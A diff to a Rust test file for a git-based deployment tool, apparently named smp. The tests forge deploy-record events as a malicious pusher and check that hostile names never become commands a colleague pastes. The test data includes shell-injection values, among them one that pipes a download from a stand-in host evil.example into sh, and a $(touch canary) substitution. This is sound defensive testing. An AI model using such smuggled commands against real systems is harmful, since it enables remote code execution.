@@ -1,5 +1,5 @@
-//! The record as somebody would write it who may push to the main repository and means harm: nothing of it becomes a
-//! command that a colleague pastes.
+//! A record from an attacker with push access to the main repository: none of it becomes a command that a colleague
+//! pastes.
 
 use serde_json::{Value, json};
 
@@ -7,7 +7,7 @@ use super::{is_harmless, promotes, proposed};
 use crate::sample::sample;
 use crate::support::Deploy;
 
-/// Names that a shell, a terminal or git would act on, or that are none.
+/// Names that act on a shell, a terminal or git, or are invalid.
 const NAMES: [&str; 9] = [
     "production; curl https://evil.example/x | sh #",
     "$(touch canary)",
@@ -20,9 +20,9 @@ const NAMES: [&str; 9] = [
     "../production",
 ];
 
-/// Writes one more event onto the record, whose state and message are these.
+/// Writes one more event to the record, with this state and message.
 #[track_caller]
-fn forge(deploy: &Deploy, state: &Value, message: &str) {
+pub(super) fn forge(deploy: &Deploy, state: &Value, message: &str) {
     let tip = deploy.git(&deploy.main, &["rev-parse", "refs/smp/record"]);
     let git = |input: &str, args: &[&str]| {
         let runner = deploy.runner().cwd(&deploy.main).stdin(input);
@@ -34,9 +34,9 @@ fn forge(deploy: &Deploy, state: &Value, message: &str) {
     deploy.git(&deploy.main, &["update-ref", "refs/smp/record", &commit]);
 }
 
-/// The state that the record has now.
+/// Returns the record's present state.
 #[track_caller]
-fn state(deploy: &Deploy) -> Value {
+pub(super) fn state(deploy: &Deploy) -> Value {
     serde_json::from_str(&deploy.git(
         &deploy.main,
         &["cat-file", "blob", "refs/smp/record:state.json"],
@@ -44,15 +44,15 @@ fn state(deploy: &Deploy) -> Value {
     .unwrap()
 }
 
-/// An announcement of a promotion there, which is still open.
-fn announced(deploy: &Deploy, environment: &str) -> Value {
+/// Returns an open announcement of a promotion to this environment.
+pub(super) fn announced(deploy: &Deploy, environment: &str) -> Value {
     json!({
         "id": "00000000deadbeef", "kind": "promote", "environment": environment, "from": deploy.nth(2),
         "to": deploy.nth(5), "unsigned": true, "by": {"name": "Mallory", "email": "m@example.com"}, "at": 1_646_222_400,
     })
 }
 
-/// What every command says of it.
+/// Runs every command.
 fn all(deploy: &Deploy) -> Vec<crate::support::Run> {
     let commands: [&[&str]; 10] = [
         &["status"],
@@ -69,7 +69,7 @@ fn all(deploy: &Deploy) -> Vec<crate::support::Run> {
     commands.into_iter().map(|args| deploy.smp(args)).collect()
 }
 
-/// Takes the last forged event away again.
+/// Removes the last forged event.
 #[track_caller]
 fn unforge(deploy: &Deploy) {
     deploy.git(
@@ -203,6 +203,16 @@ fn an_environment_that_another_smp_toml_has_is_said_to_be_so_and_becomes_no_comm
         .says("because: this smp.toml has no environment eu")
         .never_shows("promote eu");
     run.says("hint: get the team's current smp.toml, then: git smp setup");
+    for args in [&["promote", "--yes"][..], &["rollback", "--yes"]] {
+        let hash = if args[0] == "promote" { 5 } else { 1 };
+        let option = if hash == 5 { "--commit" } else { "--to" };
+        let run = deploy.smp(&[args, &[option, deploy.nth(hash)]].concat());
+        run.exits(1)
+            .says("Mallory began to promote")
+            .says("because: this smp.toml has no environment eu: it may be out of date")
+            .says("because: its id, for --take-over, is ")
+            .says("hint: get the team's current smp.toml, then: git smp setup");
+    }
     for run in all(&deploy) {
         run.never_shows("promote eu");
     }
